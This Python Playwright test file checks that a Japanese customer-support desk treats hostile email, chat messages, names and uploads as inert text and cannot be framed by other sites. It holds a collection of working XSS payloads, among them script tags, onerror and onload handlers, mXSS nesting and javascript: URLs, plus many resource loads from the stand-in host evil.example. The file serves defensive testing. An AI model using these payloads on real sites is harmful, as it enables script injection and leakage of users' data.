"""A real browser opens what strangers send: no script runs, and nothing is asked of a foreign host unless the agent says so."""

import os
import shutil
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
from playwright.async_api import Browser, BrowserContext, Error, Page, Route, async_playwright
from sqlalchemy import update
from sqlmodel import col

from app.models import Message, Person
from tests.security.rig import House, html_letter, letter, line_text, secret_of

pytestmark = pytest.mark.browser
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f64540"
    "0000000049454e44ae426082"
)
RUN = "console.log(`pwned`);top.pwned=1;fetch('https://evil.example/script')"
HOSTILE = f"""
<p id=shown>ご確認ください</p>
<script>{RUN}</script><img src=x onerror="{RUN}"><svg onload="{RUN}"><script>{RUN}</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>
<iframe srcdoc="<script>{RUN}</script>"></iframe><iframe src="https://evil.example/frame"></iframe>
<iframe src="javascript:{RUN}"></iframe><object data="https://evil.example/object"></object>
<embed src="https://evil.example/embed"><base href="https://evil.example/base/"><img src="relative.png">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><link rel=stylesheet href="https://evil.example/a.css">
<link rel=preconnect href="https://evil.example"><link rel=prefetch href="https://evil.example/prefetch">
<style>@import url(https://evil.example/import.css); body{{background:url(https://evil.example/body.png)}}
@font-face{{font-family:x;src:url(https://evil.example/font.woff)}} p{{font-family:x}}</style>
<div style="background:url(https://evil.example/style.png);position:fixed;inset:0;z-index:99999">覆い</div>
<div style="background-image:url(//evil.example/style2.png)">x</div><p style="list-style:url(https://evil.example/l.png)">x</p>
<table background="https://evil.example/table.png"><tr><td background="https://evil.example/cell.png">x</td></tr></table>
<video src="https://evil.example/v.mp4" poster="https://evil.example/poster.png" autoplay></video>
<audio src="https://evil.example/a.mp3" autoplay></audio><input type=image src="https://evil.example/input.png">
<picture><source srcset="https://evil.example/source.png"><img src="https://evil.example/pixel.png" width=1 height=1></picture>
<img srcset="https://evil.example/srcset.png 1x"><img src="//evil.example/schemeless.png"><img src="http://evil.example/plain.png">
<form action="https://evil.example/form" method=post><input name=a><button id=send>送信</button></form>
<a id=link href="https://evil.example/link" ping="https://evil.example/ping">リンク</a>
<a href="javascript:{RUN}">js</a><details open ontoggle="{RUN}">x</details><body onload="{RUN}">
<img src="cid:%E0%A4%A"><img src="cid:%"><img src='cid:x" onerror="{RUN}'>
"""


@dataclass
class Watched:
    """A page of the desk, with everything that it asked of foreign hosts."""

    page: Page
    context: BrowserContext
    asked: list[str] = field(default_factory=list)
    said: list[str] = field(default_factory=list)  # in the console

    async def pwned(self) -> bool:
        """Whether a script of theirs ran in any frame."""
        return "pwned" in self.said or bool(await self.page.evaluate("window.pwned === 1"))

    async def open(self, house: House, path: str) -> None:
        await self.page.goto(house.url + path)
        await self.page.wait_for_load_state("networkidle")


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    async with async_playwright() as played:
        try:
            made = await played.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox"])
        except Error as reason:
            if os.environ.get("CI") == "true":
                pytest.fail(f"a browser is needed with CI=true: {reason}")
            pytest.skip("left out: there is no Chromium here")
        yield made
        await made.close()


@pytest.fixture
async def desk(house: House, browser: Browser) -> AsyncIterator[Watched]:
    context = await browser.new_context(locale="ja-JP", viewport={"width": 1280, "height": 900})
    cookie = {"name": "mikawaya_session", "value": house.cast.hanako.cookie, "url": house.url}
    context.set_default_timeout(20_000)
    await context.add_cookies([cookie])  # type: ignore[list-item]
    made = Watched(await context.new_page(), context)

    async def foreign(route: Route) -> None:
        made.asked.append(route.request.url)
        if route.request.resource_type == "document":
            await route.fulfill(body="<!doctype html>foreign", content_type="text/html")
        else:
            await route.fulfill(body=PIXEL, content_type="image/png", headers={"access-control-allow-origin": "*"})

    context.on("console", lambda message: made.said.append(message.text))
    await context.route(lambda url: not url.startswith(house.url), foreign)
    yield made
    await context.close()


async def test_the_trap_itself_snaps(house: House, desk: Watched) -> None:
    await desk.open(house, "/")
    await desk.page.evaluate(RUN.replace("fetch", "new Image().src=").replace("top.pwned=1;", ""))
    await desk.page.wait_for_timeout(300)
    assert await desk.pwned()
    assert desk.asked == ["https://evil.example/script"]


async def test_E19_a_hostile_mail_runs_nothing_and_calls_nobody(house: House, desk: Watched) -> None:
    await house.mail(html_letter(1, HOSTILE))
    await desk.open(house, "/tickets/1")
    mail = desk.page.frame_locator(".mail-frame iframe")
    assert await mail.locator("p").first.inner_text() == "ご確認ください"
    assert not await desk.pwned()
    assert desk.asked == []
    await desk.page.locator(".mail-frame .show").click()
    await desk.page.wait_for_timeout(300)
    await desk.page.wait_for_load_state("networkidle")
    assert "https://evil.example/pixel.png" in desk.asked, "the agent asked for the pictures"
    pictures = {"pixel.png", "schemeless.png"}
    assert {url.rpartition("/")[2] for url in desk.asked} <= pictures
    assert not await desk.pwned()


async def test_E19_the_second_wall_holds_alone(house: House, desk: Watched) -> None:
    """If the cleaning ever lets something through: the frame's sandbox and policy stand."""
    await house.mail(html_letter(1, "<p>x</p>"))
    await house.change(update(Message).where(col(Message.id) == 1).values(html=HOSTILE))
    await desk.open(house, "/tickets/1")
    assert await desk.page.frame_locator(".mail-frame iframe").locator("#shown").inner_text() == "ご確認ください"
    await desk.page.wait_for_timeout(300)
    assert not await desk.pwned()
    assert desk.asked == []
    assert desk.page.url.startswith(house.url)


async def test_E19_a_link_of_a_mail_cannot_reach_back(house: House, desk: Watched) -> None:
    await house.mail(
        html_letter(1, '<p><a href="https://evil.example/link">リンク</a></p><table><tr><td>x</td></tr></table>')
    )
    await desk.open(house, "/tickets/1")
    async with desk.context.expect_page() as popup:
        await desk.page.frame_locator(".mail-frame iframe").locator("a").click()
    opened = await popup.value
    await opened.wait_for_url("https://evil.example/link")
    assert await opened.evaluate("window.opener") is None
    assert await opened.evaluate("document.referrer") == ""
    assert desk.page.url.startswith(house.url)


async def test_E19_a_broken_content_id_does_not_break_the_ticket(house: House, desk: Watched) -> None:
    """`decodeURIComponent` throws for it: one mail would close the ticket to everybody."""
    raw = (
        "Message-ID: <c1@customer.example>\nFrom: sato@customer.example\nTo: support@mikawaya.example\nSubject: cid\n"
        "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n"
        '<p>before</p><img src="cid:%E0%A4%A"><img src="cid:%"><p>after</p><table><tr><td>x</td></tr></table>\n'
        "--b\nContent-Type: image/png\nContent-ID: <other>\nContent-Disposition: attachment; filename=a.png\n\nx\n--b--\n"
    )
    await house.mail(raw)
    assert len((await house.ticket(1))["messages"][0]["attachments"]) == 1
    await desk.open(house, "/tickets/1")
    assert await desk.page.frame_locator(".mail-frame iframe").locator("p").last.inner_text() == "after"


NAME = f"<img src=x onerror={RUN}>"


async def test_J11_names_subjects_and_words_are_text(house: House, desk: Watched) -> None:
    """LINE display names, chat texts, file names, subjects, links: in the queue, in the ticket, beside it."""
    await house.line(line_text(1, f"{NAME} javascript:{RUN} https://evil.example/<script>{RUN}</script>"))
    await house.change(update(Person).where(col(Person.id) == 1).values(name=NAME, note=NAME))
    await house.mail(letter(2, NAME, sender=f'"{NAME}" <sato@customer.example>').replace("注文の件", NAME))
    files = {"file": (f"{NAME}.svg", f"<svg onload='{RUN}'/>".encode(), "image/svg+xml")}
    made = await house.upload(secret_of("a"), files=files)
    async with house.visit(secret_of("a"), page=f"javascript:{RUN}") as visitor:
        await visitor.say(NAME, name=NAME, email=NAME, files=[made.json()["id"]])
    await house.api("POST", "/tickets/3/notes", json={"text": NAME})
    await house.api("POST", "/tickets/3/replies", json={"text": NAME, "html": NAME})
    await house.api("POST", "/tags", json={"name": NAME[:60]})
    for number in (1, 2, 3):
        await desk.open(house, f"/tickets/{number}")
        assert "<img src=x onerror=" in await desk.page.locator("body").inner_text()
        assert await desk.page.locator("img[src='x']").count() == 0
        assert await desk.page.locator("a[href^='javascript']").count() == 0
        assert not await desk.pwned()
    assert desk.asked == []


async def test_W1_the_desk_cannot_be_framed_nor_the_chat_by_others(house: House, desk: Watched) -> None:
    widget = f"/widget/frame.html?widget={house.token('chat')}"
    shells = "".join(
        f'<iframe src="{house.url}{path}"></iframe>' for path in ("/", "/tickets/1", "/index.html", widget)
    )

    async def evil(route: Route) -> None:
        await route.fulfill(body=f"<!doctype html>{shells}", content_type="text/html")

    await desk.context.route("http://evil.example/", evil)
    await desk.page.goto("http://evil.example/")
    await desk.page.wait_for_timeout(500)
    framed = [frame for frame in desk.page.frames if frame != desk.page.main_frame]
    assert len(framed) == 4
    for frame in framed:
        assert "三河屋" not in await frame.content()
        assert "Mikawaya" not in await frame.content()
        assert await frame.locator("#app, textarea").count() == 0


async def test_J11_a_visitor_cannot_run_scripts_in_another_visitors_frame(house: House, desk: Watched) -> None:
    """What an agent, or a tampered message, says is text in the widget too."""
    async with house.visit(secret_of("w")) as visitor:
        await visitor.say(f"{NAME} javascript:{RUN}")
        await house.api("POST", "/tickets/1/replies", json={"text": f"{NAME} https://evil.example/", "html": NAME})
        thread = visitor.thread
    frame = f"{house.url}/widget/frame.html?widget={house.token('chat')}"
    answer = await desk.page.goto(frame)
    assert answer is not None
    assert "script-src 'self'" in answer.headers["content-security-policy"]
    await desk.page.wait_for_timeout(500)
    assert not await desk.pwned()
    assert desk.asked == []
    assert thread
